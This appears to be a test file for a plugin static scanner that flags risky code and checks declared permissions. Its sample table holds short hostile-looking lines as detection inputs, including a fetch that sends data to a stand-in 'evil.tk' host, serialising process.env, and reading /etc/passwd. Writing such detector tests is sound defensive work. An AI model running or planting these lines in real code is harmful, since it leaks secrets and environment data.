import type { ScanReport } from '@conductor/contracts';
import { PluginManifest } from '@conductor/contracts';
import { manifestOf, PluginTree, SHOUTING_ENTRY } from '../testing/plugin-tree';
import { listTree } from './file-tree';
import { scanPlugin, type ScanOptions } from './static-scan';

let tree: PluginTree;
beforeEach(() => (tree = new PluginTree()));
afterEach(() => tree.remove());

const scan = async (files: Record<string, string>, permissions: Record<string, unknown> = {}, options?: ScanOptions) => {
  for (const [file, content] of Object.entries(files)) tree.write(file, content);
  return scanPlugin(tree.root, await listTree(tree.root), PluginManifest.parse(manifestOf('p', '1.0.0', { permissions })).conductor.permissions, options);
};
const kindsIn = ({ findings }: ScanReport, file: string) => findings.filter((finding) => finding.file === file).map(({ kind }) => kind);

it('finds nothing in a plugin that is as it should be', async () => {
  const files = { 'index.js': SHOUTING_ENTRY, 'node_modules/dep/index.js': 'module.exports = require("node:path");', 'lib.mjs': 'import dep from "dep"; import "./index.js"; export default dep;', 'README.md': 'eval(x)' };

  expect(await scan(files)).toMatchObject({ files: 3, imports: ['./index.js', '@conductor/platform-kit', 'dep', 'node:path'], findings: [] });
});

const SAMPLES: Array<[string, string, string, string]> = [
  ['eval', 'eval.js', 'eval(input)', 'unsafe-stmt'],
  ['code made of text', 'function.js', 'new Function("return 1")()', 'unsafe-stmt'],
  ['an import that cannot be told', 'dynamic.js', 'require(something())', 'unsafe-import'],
  ['the environment as text', 'environment.js', 'const all = JSON.stringify(process.env);', 'serialize-environment'],
  ['Node’s insides', 'binding.js', 'process.binding("fs")', 'native-binding'],
  ['changed built-ins', 'patch.js', 'Array.prototype.map = function () {}', 'monkey-patch'],
  ['a shady address', 'address.js', 'fetch("http://evil.tk/?d=" + data)', 'shady-link'],
  ['files elsewhere', 'elsewhere.js', 'require("../../secret.js")', 'unexpected-import'],
  ['files elsewhere by an absolute path', 'absolute.js', 'require("/etc/passwd")', 'unexpected-import'],
  ['code in a file that looks like none', 'hidden.js', 'require("./notes.txt")', 'unexpected-import'],
  ['a database behind the sandbox’s back', 'database.js', 'require("node:sqlite")', 'unexpected-import'],
  ['a package that is not there', 'package.js', 'require("left-pad")', 'missing-package'],
  ['what is no JavaScript', 'broken.js', 'this is { not', 'parsing-error'],
  ['what breaks its reader', 'deep.js', '['.repeat(200_000), 'parsing-error'],
  ['code in a package below', 'node_modules/dep/index.js', 'eval(x)', 'unsafe-stmt'],
  ['code in a file without an ending', 'tool', 'eval(y)', 'unsafe-stmt'],
  ['code that is too long to be read', 'huge.js', '//'.padEnd(6 * 1024 * 1024, 'x'), 'too-large'],
  ['a binary', 'addon.node', '', 'binary'],
  ['an import of what was not asked for', 'spawn.js', 'require("child_process")', 'import-not-permitted'],
  ['the same in an ES module', 'workers.mjs', 'import { Worker } from "node:worker_threads";', 'import-not-permitted'],
  ['the same behind a variable', 'inspector.js', 'const name = "inspector"; require(name);', 'import-not-permitted'],
  ['the same through the process', 'network.js', 'process.getBuiltinModule("node:https")', 'import-not-permitted'],
];

it('finds what a person should look at, file by file', async () => {
  const report = await scan(Object.fromEntries(SAMPLES.map(([, file, code]) => [file, code])));

  expect(report.incomplete).toBeUndefined();
  for (const [what, file, , kind] of SAMPLES) expect([what, kindsIn(report, file)]).toEqual([what, expect.arrayContaining([kind])]);
  // What matters most comes first.
  expect(report.findings[0]).toMatchObject({ severity: 'critical' });
  expect(report.findings.find(({ file }) => file === 'spawn.js')).toMatchObject({ severity: 'critical', line: 1, message: expect.stringContaining('permissions.childProcess') });
});

it('minds no import that the manifest asks for', async () => {
  const files = { 'index.js': 'require("child_process"); require("worker_threads"); require("https"); require("inspector");' };

  expect(await scan(files, { childProcess: true, workers: true, inspector: true, net: ['api.example.org'] })).toMatchObject({ findings: [] });
});

it('ends in time, and says at which file', async () => {
  expect(await scan({ 'index.js': SHOUTING_ENTRY }, {}, { timeoutMs: 1 })).toMatchObject({ files: 0, incomplete: '"index.js" could not be read: it took longer than 1 ms' });
});

it('ends when nobody wants to know any more', async () => {
  expect(await scan({ 'index.js': SHOUTING_ENTRY }, {}, { signal: AbortSignal.abort() })).toMatchObject({ incomplete: expect.stringContaining('it was stopped') });
});
